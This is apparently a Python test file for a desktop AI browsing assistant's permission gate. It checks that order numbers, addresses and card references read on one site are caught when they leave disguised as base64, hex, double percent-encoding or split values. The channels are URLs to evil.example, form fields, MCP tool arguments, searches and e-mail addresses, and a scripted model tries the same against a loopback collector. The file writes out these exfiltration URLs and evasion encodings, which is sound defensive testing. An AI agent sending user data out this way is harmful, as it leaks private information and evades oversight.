"""Issue 28, safe URLs: values read on one site are recognised leaving in any common disguise, in
every channel, and an address the assistant composes for another site asks, showing what it carries.

The record holds an order number, a delivery address and a card reference read on ``shop.example``.
Each disguise (base64, URL-safe base64 of JSON, hex, percent-encoding done twice, split in two,
digits regrouped, other case and spacing) goes out through each channel (an address opened, a form's
fields, typed text, an MCP tool's arguments, a web search, an e-mail address) to a real
``HarborGate`` with the widest levels and nobody to ask: every one is denied, naming the value. The
benign side: the same calls carrying the user's own words, or going to the shop itself, run.

The composed-address rule (``DataFlow.composed``): asked with a person (a yes is for one call, no
grant is made, "allow for this session" does not stop the next question), denied without one;
links read on the page, the user's own words, the search engine with the user's words and a bare
site run without a question.

End to end: ``jawad ask --url`` on a real account page, a scripted model sending the values away in
disguise to another site served by a loopback collector; scored by what reached the collector.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any
from urllib.parse import unquote_plus

import pytest

from jawad_desktop.core.events import EventBus, PermissionRequest
from jawad_desktop.core.harbor import Harbor, HarborGate, PermissionCheck, PermissionDecision, PermissionLevel
from jawad_desktop.core.harbor.dataflow import DataFlow
from jawad_desktop.core.harbor.disguises import MAX_CANDIDATES, Outgoing, canonical, url_pieces
from jawad_desktop.core.harbor.gate import CallInsight
from jawad_desktop.core.sites import site_of
from jawad_desktop.core.tools.page import page_script
from tests.servers.loopback import serving
from tests.servers.scripted_model import ScriptedModel, call, text

ORDER = "A-10442"
ADDRESS = "12 Elm Street"
CARD = "1234-5678"
READ = f"Order {ORDER} was delivered to {ADDRESS}, Springfield. Card reference {CARD}."
ALL_LEVELS = ("navigate", "interact", "submit")


def _b64(value: str) -> str:
    return base64.b64encode(value.encode()).decode()


def _urlsafe_json(value: str) -> str:
    return base64.urlsafe_b64encode(json.dumps({"ref": value, "note": "ok"}).encode()).decode().rstrip("=")


def _percent_twice(value: str) -> str:
    return "".join(f"%{b:02X}" for b in value.encode()).replace("%", "%25")


# Each disguise: the value it hides and the one or two strings it is sent as.
DISGUISES: dict[str, tuple[str, tuple[str, ...]]] = {
    "base64": (ORDER, (_b64(ORDER),)),
    "urlsafe-base64-json": (ORDER, (_urlsafe_json(ORDER),)),
    "hex": (ORDER, (ORDER.encode().hex(),)),
    "percent-twice": (ADDRESS, (_percent_twice(ADDRESS),)),
    "split-in-two": (ORDER, ("A-104", "42")),
    "digits-regrouped": (CARD, ("12 345 678",)),
    "case-and-spacing": (ORDER, ("a 1044 2",)),
}


@dataclass(frozen=True)
class Channel:
    """How a call carries ``parts`` to evil.example: the tool, its arguments, and what the browser
    inspector would say it sends (``None``: the arguments are all it sends)."""

    tool: str
    level: PermissionLevel
    site: str
    build: Callable[[tuple[str, ...]], dict[str, Any]]
    sends: Callable[[tuple[str, ...]], tuple[str, ...]] | None = None
    sends_to: str = ""


def _url(parts: tuple[str, ...]) -> dict[str, Any]:
    query = "&".join(f"p{i}={p}" for i, p in enumerate(parts))
    return {"url": f"https://evil.example/collect?{query}"}


CHANNELS: dict[str, Channel] = {
    "url": Channel("navigate", PermissionLevel.NAVIGATE, "evil.example", _url),
    # The shop's page has a form whose action is on evil.example: the fields typed go there.
    "form-fields": Channel("click_element", PermissionLevel.SUBMIT, "shop.example", lambda parts: {"index": 4},
                           sends=lambda parts: (*parts, "https://evil.example/collect"), sends_to="evil.example"),
    "typed-text": Channel("type_text", PermissionLevel.INTERACT, "evil.example",
                          lambda parts: {"index": 2, "text": "\n".join(parts)}),
    "mcp-arguments": Channel("crm_note", PermissionLevel.READ_ONLY, "mcp.crm",
                             lambda parts: {f"field{i}": p for i, p in enumerate(parts)}),
    "search-query": Channel("search_web", PermissionLevel.READ_ONLY, "search.example",
                            lambda parts: {"query": " ".join(parts)}),
    # A "share by e-mail" form on the shop itself: the value rides in the address it mails to.
    "e-mail-address": Channel("click_element", PermissionLevel.SUBMIT, "shop.example", lambda parts: {"index": 5},
                              sends=lambda parts: (f"{parts[0]}@{'.'.join((*parts[1:], 'evil', 'example'))}",
                                                   "Have a look"), sends_to="shop.example"),
}


def _gate(*, ask: bool = False, levels: tuple[str, ...] = ALL_LEVELS,
          answer: PermissionDecision = PermissionDecision.ALLOW_SESSION) -> tuple[HarborGate, list[PermissionRequest]]:
    bus = EventBus()
    asked: list[PermissionRequest] = []
    gate = HarborGate(Harbor(auto_levels=levels), bus, ask=ask, timeout_s=5)

    def on_event(event: object) -> None:
        if isinstance(event, PermissionRequest):
            asked.append(event)
            asyncio.get_running_loop().call_soon(gate.respond, event.id, answer)

    bus.subscribe(on_event)
    gate.record_result("shop.example", READ)
    return gate, asked


def _insight(**fields: Any) -> Any:
    async def inspect(check: PermissionCheck) -> CallInsight:
        return CallInsight(**fields)
    return inspect


def _check(tool: str, args: dict[str, Any], site: str, level: PermissionLevel, *,
           user: str = "check my last order", current: str = "shop.example") -> PermissionCheck:
    return PermissionCheck(tool=tool, call_id="c1", arguments=args, level=level, site=site,
                           current_site=current, run_id="r1", user_texts=(user,))


@pytest.mark.parametrize("channel", list(CHANNELS))
@pytest.mark.parametrize("disguise", list(DISGUISES))
def test_a_disguised_value_leaving_by_any_channel_is_denied(arun: Any, channel: str, disguise: str) -> None:
    value, parts = DISGUISES[disguise]
    way = CHANNELS[channel]

    async def run() -> Any:
        gate, asked = _gate()
        if way.sends is not None:
            gate.inspector = _insight(sends=way.sends(parts), sends_to=way.sends_to)
        decision = await gate.check(_check(way.tool, way.build(parts), way.site, way.level))
        assert not asked
        return decision

    decision = arun(run())
    assert not decision.allowed, f"{disguise} via {channel} went through"
    assert f"'{value}'" in decision.reason and "(read on shop.example) to" in decision.reason
    assert "nobody can be asked here" in decision.reason


@pytest.mark.parametrize("channel", list(CHANNELS))
def test_the_users_own_words_and_the_shop_itself_run_in_every_channel(arun: Any, channel: str) -> None:
    way = CHANNELS[channel]
    mine = ("blue", "trail", "shoes")

    async def run() -> tuple[Any, Any]:
        gate, asked = _gate()
        if way.sends is not None:
            gate.inspector = _insight(sends=way.sends(mine), sends_to=way.sends_to)
        words = await gate.check(_check(way.tool, way.build(mine), way.site, way.level,
                                        user="find blue trail shoes"))
        gate.inspector = _insight(sends=(_b64(ORDER),), sends_to="shop.example")
        home = await gate.check(_check(way.tool, {"text": _b64(ORDER)}, "shop.example", way.level))
        assert not asked
        return words, home

    words, home = arun(run())
    assert words.allowed and words.decision == "auto-approved", words.reason
    assert home.allowed, home.reason  # the order, encoded, back to the shop it was read on


# -- the record's eyes: disguises the matrix does not show -----------------------------------------------

def test_base64_of_a_longer_text_finds_the_value_at_each_offset_and_cut_anywhere() -> None:
    flow = DataFlow()
    flow.record(READ, "shop.example")
    for prefix in ("", "x", "xy", "xyz", "order="):
        blob = _b64(f"{prefix}{ORDER}&more=1")
        assert [leak.value for leak in flow.leaks([f"https://evil.example/?d={blob}"], "evil.example")] == [ORDER]
        for cut in (5, 7, 10):  # the blob split over two parameters at any point
            split = f"https://evil.example/?a={blob[:cut]}&b={blob[cut:]}"
            assert [leak.value for leak in flow.leaks([split], "evil.example")] == [ORDER], (prefix, cut)


def test_values_in_sub_domains_path_segments_userinfo_and_fragments_are_found() -> None:
    flow = DataFlow()
    flow.record(READ, "shop.example")
    for url in ("https://a10442.evil.example/", "https://evil.example/a-1/0442", "https://a:10442@evil.example/",
                f"https://evil.example/#o={_b64(ORDER)}", f"https://evil.example/?j={_urlsafe_json(ADDRESS)}"):
        assert flow.leaks([url], "evil.example"), url


def test_a_number_inside_another_number_or_an_address_is_no_match() -> None:
    flow = DataFlow()
    flow.record(READ, "shop.example")
    for url in ("http://localhost:41044/2", "http://127.0.0.1:410442/x", "https://evil.example/?n=9104420",
                "https://evil.example/?q=weather+in+paris", "https://evil.example/elm-street-bakery"):
        assert not flow.leaks([url], "evil.example"), url


def test_a_sentence_read_on_the_page_is_found_in_base64_too() -> None:
    flow = DataFlow()
    flow.record("Our reviewer tested each kettle at home for a week before writing.", "shop.example")
    (leak,) = flow.leaks([_b64("note: tested each kettle at home for a week")], "mcp.notes")
    assert (leak.kind, leak.how, leak.value) == ("text", "base64", "tested each kettle at home for a week")


def test_a_long_encoded_blob_is_checked_in_linear_time() -> None:
    # An e-mail pattern scanned from every character of a run without "@" took 13 s for 20 kB.
    import time

    flow = DataFlow()
    flow.record(READ, "shop.example")
    blob = _b64(("lorem ipsum " * 4000) + ORDER)
    started = time.monotonic()
    leaks = flow.leaks([f"https://evil.example/?d={blob}"], "evil.example")
    assert time.monotonic() - started < 8
    assert [leak.value for leak in leaks] == [ORDER]
    flow.record(blob, "other.example")  # reading such a page is linear too
    assert time.monotonic() - started < 16


def test_the_outgoing_side_is_decoded_within_a_budget() -> None:
    nested = "x" * 10
    for _ in range(12):  # twelve layers of base64: the budget stops, nothing hangs
        nested = _b64(nested)
    out = Outgoing([nested, *(f"QUJDREVGR0hJSktM{i}" for i in range(3000))])
    assert len(out.candidates) <= MAX_CANDIDATES
    assert out.unchecked  # what the budget left unread is not waved through (DataFlow.leaks asks)
    source = page_script()
    assert not Outgoing([source]).unchecked  # 110 kB of code is read through within the budget
    flow = DataFlow()
    flow.record(READ, "shop.example")
    (leak,) = flow.leaks([f"https://evil.example/?d={nested}"], "evil.example")
    assert leak.kind == "unchecked" and "more layers or parts than can be checked" in leak.value
    assert not flow.leaks([f"https://shop.example/?d={nested}"], "shop.example")  # nothing read elsewhere
    assert canonical("A-10442 ") == "a10442"
    assert url_pieces("https://u:p@a.b.shop.co.uk/x/y?k=v#f") == ["u", "p", "a", "b", "x", "y", "k", "v", "f"]


# -- addresses the assistant composes ------------------------------------------------------------------------

def _opens(url: str, fixed: str = "") -> Any:
    return _insight(site=site_of(url), sends=(url,), opens=url, opens_fixed=fixed)


def test_a_composed_address_asks_showing_what_it_carries_and_a_yes_is_for_one_call(arun: Any) -> None:
    url = "https://evil.example/verify/QS1ub3RoaW5n?from=assistant"

    async def run() -> tuple[list[Any], list[PermissionRequest], HarborGate]:
        gate, asked = _gate(ask=True)
        gate.harbor.apply_decision("navigate", "evil.example", PermissionDecision.ALLOW_SITE)
        gate.inspector = _opens(url)
        first = await gate.check(_check("navigate", {"url": url}, "evil.example", PermissionLevel.NAVIGATE))
        second = await gate.check(_check("navigate", {"url": url}, "evil.example", PermissionLevel.NAVIGATE))
        return [first, second], asked, gate

    decisions, asked, gate = arun(run())
    assert [d.allowed for d in decisions] == [True, True] and len(asked) == 2  # asked both times
    flow = asked[0].data_flow
    assert flow.startswith("It would send 'verify', 'QS1ub3RoaW5n' (base64 of 'A-nothing')"), flow
    assert "'assistant' to evil.example in an address the assistant composed itself" in flow
    assert "this one call only" in asked[0].reason
    assert {g.scope for g in gate.harbor.grants()} == {"site"}  # the answers made no grant


def test_a_composed_address_is_denied_without_a_person_whatever_the_levels(arun: Any) -> None:
    url = "https://evil.example/hello/friend"

    async def run() -> Any:
        gate, _ = _gate(ask=False)
        gate.harbor.apply_decision("navigate", "evil.example", PermissionDecision.ALLOW_SITE)
        gate.inspector = _opens(url)
        return await gate.check(_check("navigate", {"url": url}, "evil.example", PermissionLevel.NAVIGATE))

    decision = arun(run())
    assert not decision.allowed
    assert "'hello' and 'friend' to evil.example in an address the assistant composed" in decision.reason
    assert "give the address in your request" in decision.reason


def test_links_read_the_users_words_the_search_engine_and_a_bare_site_run(arun: Any) -> None:
    engine = "https://search.example/html/?q="

    async def run() -> list[Any]:
        gate, asked = _gate(ask=False)
        gate.record_result("shop.example", "Returns: https://help.example/returns?topic=shoes&lang=en")
        gate.harbor.dataflow.record_links(["https://partner.example/deals/summer-2026"])
        out = []
        for url, user, fixed in (
            ("https://help.example/returns?topic=shoes&lang=en", "check my order", ""),  # a link in the page's text
            ("https://partner.example/deals/summer-2026", "check my order", ""),  # a link element read
            ("https://partner.example/deals", "check my order", ""),  # part of a link read
            ("https://docs.example/guide/setup?v=2", "open docs.example/guide/setup?v=2", ""),  # the user's address
            ("https://news.example/search?q=trail+running+shoe", "find news on trail running shoes", ""),
            (engine + "blue+trail+shoes", "search for blue trail shoes", engine),
            ("https://evil.example/", "check my order", ""),  # a bare site carries nothing
        ):
            gate.inspector = _opens(url, fixed)
            out.append(await gate.check(_check("navigate", {"url": url}, "x", PermissionLevel.NAVIGATE, user=user)))
        assert not asked
        return out

    decisions = arun(run())
    assert [d.reason for d in decisions if not d.allowed] == []


def test_a_composed_address_before_anything_was_read_elsewhere_and_on_the_same_site_runs() -> None:
    flow = DataFlow()
    assert flow.composed("https://evil.example/any/thing", current_site="") == []  # nothing read yet
    flow.record(READ, "shop.example")
    assert flow.composed("https://shop.example/orders/new", current_site="shop.example") == []
    assert flow.composed("https://evil.example/any/thing", current_site="shop.example") == ["any", "thing"]
    assert flow.composed("https://evil.example/search?q=blue", current_site="shop.example",
                         user_texts=["blue"]) == []


# -- end to end: jawad ask, the widest --allow, nobody to ask; scored at the collector --------------------------

ACCOUNT = f"""<!doctype html><html><head><title>Your account</title></head><body>
<h1>Your orders</h1>
<p>Order {ORDER} was delivered to {ADDRESS}, Springfield.</p>
<p><a href="http://localhost:PORT/help?topic=returns">Returns and help</a></p>
<form action="http://localhost:PORT/collect" method="get">
  <label>Note <input id="note" name="note"></label><button id="send" type="submit">Send</button>
</form>
</body></html>"""


@dataclass
class Collector:
    """One loopback server, two sites: the shop on ``127.0.0.1``, the collector on ``localhost``."""

    port: int = 0
    hits: list[str] = field(default_factory=list)  # what reached the collector: path and query

    @property
    def shop(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def other(self) -> str:
        return f"http://localhost:{self.port}"


@pytest.fixture()
def collector() -> Iterator[Collector]:
    state = Collector()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if (self.headers.get("Host") or "").split(":")[0] == "localhost":
                state.hits.append(self.path)
                body = b"<html><body><p>Thank you.</p></body></html>"
            else:
                body = ACCOUNT.replace("PORT", str(state.port)).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    with serving(Handler, "collector") as base:
        state.port = int(base.rsplit(":", 1)[1])
        yield state


def _carried(hit: str) -> bool:
    """Whether a request the collector got carries the order or the address in any of the disguises used."""
    flow = DataFlow()
    flow.record(READ, "shop.example")
    return bool(flow.leaks([hit, unquote_plus(hit)], "collector.example"))


def test_disguised_values_never_reach_the_collector_and_the_page_and_the_user_still_lead_there(
        scripted_model: ScriptedModel, collector: Collector, profile_dir: Path) -> None:
    other = collector.other
    settings = profile_dir / "config"
    settings.mkdir(parents=True, exist_ok=True)
    (settings / "settings.json").write_text(json.dumps({"browser": {"search_engine": f"{other}/search?q={{query}}"},
                                                    "agent": {"max_iterations": 25}}))
    blob = _urlsafe_json(f"{ORDER} {ADDRESS}")
    scripted_model.script(
        call("read_page", {}),
        call("navigate", {"url": f"{other}/c?d={_b64(ORDER)}"}),
        call("navigate", {"url": f"{other}/c?a=A-104&b=42"}),
        call("navigate", {"url": f"{other}/c/{ORDER.encode().hex()}"}),
        call("navigate", {"url": f"{other}/c?j={blob}"}),
        call("fill_form", {"selector": "#note", "text": ORDER.encode().hex(), "submit": True}),
        call("search_web", {"query": _b64(ADDRESS)}),
        call("navigate", {"url": f"{other}/welcome/back/friend"}),  # composed, nothing read in it: still asks
        call("navigate", {"url": f"{other}/help?topic=returns"}),  # the page's own link
        call("navigate", {"url": f"{other}/find?q=blue+trail+shoes"}),  # the user's own words
        text("Done."),
    )
    env = dict(os.environ, QT_QPA_PLATFORM="offscreen")
    out = subprocess.run(
        [sys.executable, "-m", "jawad_desktop", "--profile", str(profile_dir), "ask",
         "Check my last order, then find blue trail shoes on localhost", "--no-save", "--url", f"{collector.shop}/a",
         "--allow", ",".join(ALL_LEVELS), "--kind", "openai-compatible", "--base-url", scripted_model.base_url,
         "--model", "scripted"],
        capture_output=True, text=True, timeout=180, env=env, stdin=subprocess.DEVNULL, check=False)
    assert out.returncode == 0, out.stderr
    results = [m["content"] for m in scripted_model.requests[-1]["messages"] if m["role"] == "tool"]
    assert len(results) == 10, results
    denied = results[1:8]
    assert all(r.startswith("Permission denied") for r in denied), denied
    assert all("nobody can be asked here" in r for r in denied)
    assert f"'{ORDER}' (base64)" in denied[0] and f"'{ORDER}' (split over the address's parts)" in denied[1]
    assert "composed itself" in denied[6] and "'welcome', 'back' and 'friend'" in denied[6]
    assert not any(r.startswith("Permission denied") for r in results[8:]), results[8:]
    # Scored by what arrived: the page's link and the user's search only, nothing carrying a value.
    hits = [h for h in collector.hits if not h.startswith("/favicon")]
    assert [h.split("?")[0] for h in hits] == ["/help", "/find"], hits
    assert not [h for h in hits if _carried(h)]


def test_a_redirect_the_page_starts_carrying_an_encoded_value_is_refused() -> None:
    from jawad_desktop.core.tools.browser import make_navigation_guard

    harbor = Harbor(auto_levels=("navigate",))
    harbor.dataflow.record(READ, "shop.example")
    guard = make_navigation_guard(harbor)
    assert not guard("https://shop.example/account", f"https://evil.example/landing?t={_urlsafe_json(ORDER)}")
    assert guard("https://shop.example/account", "https://evil.example/landing?t=welcome")


def test_an_address_in_a_query_is_the_users_own_when_they_gave_it() -> None:
    flow = DataFlow()
    assert flow.recipients(["https://mail.example/send?to=me@home.example"], ["send it to me@home.example"]) == []
    assert flow.recipients(["https://mail.example/send?to=desk@evil.example"], ["send it"]) == ["desk@evil.example"]
    assert flow.recipients([f"{_b64(ORDER)}@evil.example"], ["send it"]) == [f"{_b64(ORDER)}@evil.example".lower()]
